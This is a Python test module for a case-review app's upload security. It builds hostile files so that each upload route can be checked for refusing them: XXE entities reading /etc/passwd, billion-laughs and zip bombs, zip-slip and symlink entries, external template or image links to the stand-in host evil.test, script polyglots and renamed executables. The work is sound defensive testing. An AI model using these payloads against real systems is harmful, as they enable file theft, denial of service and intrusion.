"""SECURITY.md UP-1: the corpus of hostile files, built here (never committed as binaries).

Each hostile file is built from a benign file of its format, so the same trick is tried on
every upload route with that route's own kind of file (a chronology, an IMR, a letter template,
a key reference). ``format`` says which benign file it starts from: ``docx``, ``xlsx`` or
``text``; ``name`` files (``any``) are refused by their name alone. A route that does not take
the format gets the file under its own extension, and must refuse it for not being what its
name says.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from casereview.core.uploads import MB, OLE_MAGIC

XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b"<w:document>&e;</w:document>"
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">'.encode() for i in range(1, 10)
    ).replace(b"&lol0;", b"&lol;")
    + b"]><lolz>&lol9;</lolz>"
)
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE w SYSTEM "http://evil.test/x.dtd"><w:document/>'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relationships(*items: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlforma'
        'ts.org/package/2006/relationships">' + "".join(items) + "</Relationships>"
    ).encode()


EXTERNAL_TEMPLATE = relationships(
    f'<Relationship Id="rId9" Type="{RELS}/attachedTemplate" Target="http://evil.test/t.dotm"'
    ' TargetMode="External"/>'
)
# The same, as the probe wrote it: single quotes, and spaces around "=".
EXTERNAL_TEMPLATE_SINGLE_QUOTES = relationships(
    f"<Relationship Id='rId9' Type='{RELS}/attachedTemplate' Target='http://evil.test/t.dotm'"
    " TargetMode='External'/>"
)
EXTERNAL_TEMPLATE_SPACES = relationships(
    f'<Relationship Id = "rId9" Type = "{RELS}/attachedTemplate"'
    ' Target = "http://evil.test/t.dotm" TargetMode = "External" />'
)
EXTERNAL_IMAGE_SINGLE_QUOTES = relationships(
    f"<Relationship Id='rId99' Type='{RELS}/image' Target='http://evil.test/pixel.png'"
    " TargetMode='External'/>"
)
EXTERNAL_IMAGE_SPACES = relationships(
    f'<Relationship Id="rId99" Type="{RELS}/image" Target="https://evil.test/pixel.png"'
    ' TargetMode = "External"/>'
)
EXTERNAL_FRAME = relationships(
    f'<Relationship Id="rId98" Type="{RELS}/frame" Target="http://evil.test/frame.html"'
    ' TargetMode="External"/>'
)
EXTERNAL_OLE = relationships(
    f'<Relationship Id="rId97" Type="{RELS}/oleObject" Target="\\\\evil.test\\share\\x.xlsx"'
    ' TargetMode="External"/>'
)
FILE_HYPERLINK = relationships(
    f'<Relationship Id="rId96" Type="{RELS}/hyperlink" Target="file://evil.test/share/x"'
    ' TargetMode="External"/>'
)
UTF16_DOCTYPE = (
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    "<w:document>&e;</w:document>"
).encode("utf-16")  # with its byte-order mark, as Word would write UTF-16
UTF16_DOCTYPE_NO_BOM = (
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x SYSTEM "http://evil.test/x.dtd"><x/>'
).encode("utf-16-le")


def rezip(base: bytes, add: dict[str, bytes] | None = None, **options) -> bytes:
    """A copy of an Office file with parts replaced or added (ZipInfo options for new parts)."""
    add = add or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            if item.filename not in add:
                target.writestr(item, source.read(item))
        for name, data in add.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            for key, value in options.items():
                setattr(info, key, value)
            target.writestr(info, data)
    return out.getvalue()


def with_relationships(base: bytes, extra: bytes, part: str = "word/_rels/settings.xml.rels"):
    """The document with a relationships part added (a settings part's, for an outside template)."""
    names = zipfile.ZipFile(io.BytesIO(base)).namelist()
    if part.startswith("word/") and "word/document.xml" not in names:
        part = "xl/_rels/workbook.xml.rels" if "xl/workbook.xml" in names else "_rels/.rels"
    return rezip(base, {part: extra})


def many_parts(base: bytes) -> bytes:
    return rezip(base, {f"word/media/p{i}.xml": b"<x/>" for i in range(1001)})


def lying_size(base: bytes) -> bytes:
    """A part whose central directory says 10 bytes while it inflates to 3 MB."""
    content = bytearray(rezip(base, {"word/media/big.bin": b"\0" * (3 * MB)}))
    name = b"word/media/big.bin"
    position = 0
    while True:
        central = content.find(b"PK\x01\x02", position)
        if central < 0:
            break
        length = struct.unpack_from("<H", content, central + 28)[0]
        if content[central + 46 : central + 46 + length] == name:
            struct.pack_into("<I", content, central + 24, 10)
        position = central + 4
    return bytes(content)


def password_protected(_base: bytes = b"") -> bytes:
    """What Office writes for a password-protected file: a CDF holding EncryptedPackage."""
    return (
        OLE_MAGIC
        + b"\0" * 504
        + "EncryptionInfo".encode("utf-16-le")
        + b"\0" * 100
        + "EncryptedPackage".encode("utf-16-le")
        + b"\0" * 2048
    )


def encrypted_zip_entry(base: bytes) -> bytes:
    """A part whose flags say it is encrypted (set in the central directory, which is read)."""
    content = bytearray(rezip(base, {"word/secret.xml": b"<x/>"}))
    central = content.find(b"PK\x01\x02")
    while central >= 0:
        length = struct.unpack_from("<H", content, central + 28)[0]
        if content[central + 46 : central + 46 + length] == b"word/secret.xml":
            content[central + 8] |= 0x1
        central = content.find(b"PK\x01\x02", central + 4)
    return bytes(content)


def inner_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("family.txt", "Mia Thompson lives at 7 Mill Lane.")
    return out.getvalue()


def macro_workbook() -> bytes:
    """A workbook with a VBA project, as Excel saves a .xlsm (only its parts matter here)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/vbaProject.bin", b"\1" * 64)
    return out.getvalue()


def bomb(size: int = 120 * MB) -> bytes:
    """A .docx whose one part inflates to ``size`` bytes at about 60:1, under the ratio rule.

    Each megabyte is zeros and a 16 KB random block (the same block: it is far enough from its
    last copy that deflate cannot refer back to it); deflating 120 MB of it takes well under a
    second, in memory.
    """
    block = b"\0" * (MB - 16 * 1024) + random.Random(7).randbytes(16 * 1024)
    return _with_streamed_part(_docx_base(), "word/media/bomb.bin", block, size // MB)


def zeros_bomb(size: int = 120 * MB) -> bytes:
    """A .docx whose one part is ``size`` zero bytes: about 1,000 to 1 (the classic bomb)."""
    return _with_streamed_part(_docx_base(), "word/media/zeros.bin", b"\0" * MB, size // MB, 9)


def _with_streamed_part(base: bytes, name: str, block: bytes, count: int, level: int = 1):
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target,
    ):
        for item in source.infolist():
            target.writestr(item, source.read(item))
        with target.open(name, "w", force_zip64=True) as part:
            for _ in range(count):
                part.write(block)
    return out.getvalue()


def _docx_base() -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("A benign paragraph.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def html_with_zip(base: bytes) -> bytes:
    """An HTML page with the Office file appended: zip readers find the zip at the end."""
    return b"<html><body><script>alert(1)</script></body></html>\n" + base


def svg_with_zip(base: bytes) -> bytes:
    return b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>\n" + base


@dataclass(frozen=True)
class Hostile:
    format: str  # the benign file it starts from: "docx", "xlsx", "text", or "any" (by name)
    build: Callable[[bytes], bytes]
    message: str | tuple[str, ...]
    name: str = ""  # for "any": the whole name; otherwise the route's own name is used

    @property
    def messages(self) -> tuple[str, ...]:
        return self.message if isinstance(self.message, tuple) else (self.message,)


RATIO = "more than 100 to 1"
HEADER_RELS = "word/_rels/header1.xml.rels"
EMBEDDED = "macros, ActiveX controls or embedded objects"
OUTSIDE = "links to an outside template, image or object"
INSIDE = "another archive or Office file inside it"
LOCKED = "The file is password-protected. Remove the password and upload it again."

CORPUS: dict[str, Hostile] = {
    # 1. size (over the limit by one byte: built per route, see ``over_the_limit``)
    "empty": Hostile("text", lambda _: b"", "The file is empty"),
    # 2. archive bombs
    "part-inflating-to-60-mb": Hostile(
        "docx", lambda b: rezip(b, {"word/media/a.bin": b"\0" * (60 * MB)}), (RATIO, "zip bomb")
    ),
    "bomb-inflating-to-120-mb-under-the-ratio": Hostile(
        "docx", lambda _: bomb(), "unpacks to more than 50 MB"
    ),
    "central-directory-lies-about-size": Hostile("docx", lying_size, ("zip bomb", "is damaged")),
    "zip-inside-zip": Hostile("docx", lambda b: rezip(b, {"word/media/inner.dat": b}), INSIDE),
    "zip-named-zip-inside": Hostile(
        "docx", lambda b: rezip(b, {"word/family.zip": inner_zip()}), INSIDE
    ),
    "zip-magic-part-inside": Hostile(
        "docx", lambda b: rezip(b, {"word/media/image9.png": inner_zip()}), INSIDE
    ),
    "more-than-1000-entries": Hostile("docx", many_parts, "more than 500 parts"),
    "ratio-over-100-to-1": Hostile(
        "xlsx", lambda b: rezip(b, {"xl/media/z.bin": b"\0" * (2 * MB)}), RATIO
    ),
    "docx-part-over-100-to-1": Hostile(
        "docx", lambda b: rezip(b, {"word/media/z.bin": b"\0" * (512 * 1024)}), RATIO
    ),
    # 3. zip slip
    "entry-dot-dot": Hostile("docx", lambda b: rezip(b, {"../../x": b"x"}), "unsafe name"),
    "entry-absolute": Hostile("docx", lambda b: rezip(b, {"/etc/x": b"x"}), "unsafe name"),
    "entry-drive-letter": Hostile("docx", lambda b: rezip(b, {"C:\\x": b"x"}), "unsafe name"),
    "entry-symlink": Hostile(
        "docx",
        lambda b: rezip(b, {"word/link": b"/etc/passwd"}, external_attr=0o120777 << 16),
        "link to another file",
    ),
    # 4. XML
    "xxe-in-word-document": Hostile(
        "docx", lambda b: rezip(b, {"word/document.xml": XXE}), "DOCTYPE"
    ),
    "xxe-in-sheet": Hostile(
        "xlsx", lambda b: rezip(b, {"xl/worksheets/sheet1.xml": XXE}), "DOCTYPE"
    ),
    "billion-laughs": Hostile(
        "xlsx", lambda b: rezip(b, {"xl/sharedStrings.xml": LAUGHS}), "DOCTYPE"
    ),
    "external-dtd": Hostile(
        "docx", lambda b: rezip(b, {"word/styles.xml": EXTERNAL_DTD}), "DOCTYPE"
    ),
    "utf-16-doctype": Hostile(
        "docx", lambda b: rezip(b, {"word/styles.xml": UTF16_DOCTYPE}), "DOCTYPE"
    ),
    "utf-16-doctype-without-bom": Hostile(
        "docx", lambda b: rezip(b, {"word/fontTable.xml": UTF16_DOCTYPE_NO_BOM}), "DOCTYPE"
    ),
    # 5. active content
    "docm": Hostile("any", lambda _: _docx_base(), "can hold macros (.docm)", name="macro.docm"),
    "xlsm": Hostile("any", lambda _: _docx_base(), "can hold macros (.xlsm)", name="macro.xlsm"),
    "pptm": Hostile("any", lambda _: _docx_base(), "can hold macros (.pptm)", name="macro.pptm"),
    "vba-project-in-docx": Hostile(
        "docx", lambda b: rezip(b, {"word/vbaProject.bin": b"\1" * 64}), EMBEDDED
    ),
    "activex-in-docx": Hostile(
        "docx", lambda b: rezip(b, {"word/activeX/activeX1.xml": b"<ax/>"}), EMBEDDED
    ),
    "ole-object-in-docx": Hostile(
        "docx", lambda b: rezip(b, {"word/embeddings/oleObject1.bin": b"\1" * 64}), EMBEDDED
    ),
    "ole-object-in-xlsx": Hostile(
        "xlsx", lambda b: rezip(b, {"xl/embeddings/oleObject1.bin": b"\1" * 64}), EMBEDDED
    ),
    "embedded-macro-workbook": Hostile(
        "docx",
        lambda b: rezip(
            b, {"word/embeddings/Microsoft_Excel_Macro-Enabled1.xlsm": macro_workbook()}
        ),
        "embedded workbook or document with macros",
    ),
    "macro-content-type-renamed": Hostile(
        "docx",
        lambda b: rezip(
            b,
            {
                "[Content_Types].xml": zipfile.ZipFile(io.BytesIO(b))
                .read("[Content_Types].xml")
                .replace(
                    b"wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
                .replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
            },
        ),
        "file with macros renamed",
    ),
    "legacy-xls": Hostile(
        "any", lambda _: OLE_MAGIC + b"\0" * 1024, "is an old Office format", name="old.xls"
    ),
    "legacy-doc": Hostile(
        "any", lambda _: OLE_MAGIC + b"\0" * 1024, "is an old Office format", name="old.doc"
    ),
    "ole-with-vba-renamed": Hostile(
        "xlsx",
        lambda _: OLE_MAGIC + b"\0" * 512 + "_VBA_PROJECT".encode("utf-16-le"),
        "old-format Office file",
    ),
    "svg": Hostile(
        "any",
        lambda _: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "This file's name ends in .svg",
        name="picture.svg",
    ),
    "html": Hostile(
        "any",
        lambda _: b"<html><script>alert(1)</script></html>",
        "This file's name ends in .html",
        name="page.html",
    ),
    "external-template": Hostile(
        "docx", lambda b: with_relationships(b, EXTERNAL_TEMPLATE), OUTSIDE
    ),
    "external-template-single-quotes": Hostile(
        "docx", lambda b: with_relationships(b, EXTERNAL_TEMPLATE_SINGLE_QUOTES), OUTSIDE
    ),
    "external-template-spaces-around-equals": Hostile(
        "docx", lambda b: with_relationships(b, EXTERNAL_TEMPLATE_SPACES), OUTSIDE
    ),
    "external-image-single-quotes": Hostile(
        "docx",
        lambda b: with_relationships(b, EXTERNAL_IMAGE_SINGLE_QUOTES, HEADER_RELS),
        OUTSIDE,
    ),
    "external-image-spaces-around-equals": Hostile(
        "docx",
        lambda b: with_relationships(b, EXTERNAL_IMAGE_SPACES, "word/_rels/footer1.xml.rels"),
        OUTSIDE,
    ),
    "external-frame": Hostile(
        "docx",
        lambda b: with_relationships(b, EXTERNAL_FRAME, "word/_rels/webSettings.xml.rels"),
        OUTSIDE,
    ),
    "external-ole-object-on-a-share": Hostile(
        "docx",
        lambda b: with_relationships(b, EXTERNAL_OLE, "word/_rels/footer2.xml.rels"),
        OUTSIDE,
    ),
    "hyperlink-to-a-file-share": Hostile(
        "docx",
        lambda b: with_relationships(b, FILE_HYPERLINK, "word/_rels/footer3.xml.rels"),
        OUTSIDE,
    ),
    "external-sheet-link-in-xlsx": Hostile(
        "xlsx", lambda b: with_relationships(b, EXTERNAL_TEMPLATE_SINGLE_QUOTES), OUTSIDE
    ),
    # 6. type confusion
    "html-with-zip-appended": Hostile(
        "docx", html_with_zip, ("its contents do not match its name", "web page or markup")
    ),
    "svg-with-zip-appended": Hostile(
        "docx", svg_with_zip, ("its contents do not match its name", "web page or markup")
    ),
    "text-html-with-zip-appended": Hostile(
        "text", lambda b: html_with_zip(_docx_base()), "web page or markup"
    ),
    "text-svg-with-zip-appended": Hostile(
        "text", lambda b: svg_with_zip(_docx_base()), "web page or markup"
    ),
    "zip-with-data-appended": Hostile(
        "docx", lambda b: b + b"<script>alert(1)</script>", "its contents do not match its name"
    ),
    "program-renamed-text": Hostile("text", lambda _: b"MZ\x90\0" + b"\0" * 200, "it is a program"),
    "program-renamed-office": Hostile(
        "docx", lambda _: b"MZ\x90\0" + b"\0" * 200, "its contents do not match its name"
    ),
    "html-renamed-office": Hostile(
        "docx",
        lambda _: b"<!doctype html><html><body>x</body></html>",
        "its contents do not match its name",
    ),
    "gif-js-polyglot": Hostile("text", lambda _: b"GIF89a/*\0*/=alert(1);", "it is an image"),
    "html-renamed-text": Hostile(
        "text", lambda _: b"<html><body><script>x()</script>", "web page or markup"
    ),
    "svg-renamed-text": Hostile(
        "text", lambda _: "\ufeff  <svg onload='x()'/>".encode(), "web page or markup"
    ),
    "pdf-dot-exe": Hostile("any", lambda _: b"MZ" + b"\0" * 100, "ends in .exe", name="x.pdf.exe"),
    # Django drops some characters from an uploaded name; either refusal will do.
    "rtl-override": Hostile(
        "any",
        lambda _: b"MZ" + b"\0" * 100,
        ("reverse its text", "ends in .exe"),
        name="rows\u202excod.exe",
    ),
    "right-name-wrong-magic": Hostile(
        "docx", lambda _: b"%PDF-1.7\n" + b"x" * 100, "its contents do not match its name"
    ),
    "binary-named-text": Hostile("text", lambda _: b"DATE,x\n\0\0\0\1\2", "it is not text"),
    # 7. encrypted
    "password-protected": Hostile("docx", password_protected, LOCKED),
    "password-protected-named-as-text": Hostile("text", password_protected, LOCKED),
    "encrypted-zip-entry": Hostile("docx", encrypted_zip_entry, LOCKED),
}

# A route that does not take the hostile file's format gets it under its own name, and must
# say the file is not what its name says (or name what the file really is).
MISMATCH = (
    "its contents do not match its name",
    "but it is an Excel .xlsx file",
    "but it is a Word .docx file",
    "but it is a zip or Office file",
    "old-format Office file",
    "web page or markup",
    "it is not text",
    "it is a program",
    "it is an image",
    "it is a PDF",
    "larger than",
    LOCKED,
)


def expected(hostile: Hostile, formats: tuple[str, ...]) -> tuple[str, ...]:
    """The messages a route taking ``formats`` may give for the hostile file."""
    if hostile.format in ("any", *formats):
        return hostile.messages
    return hostile.messages + MISMATCH
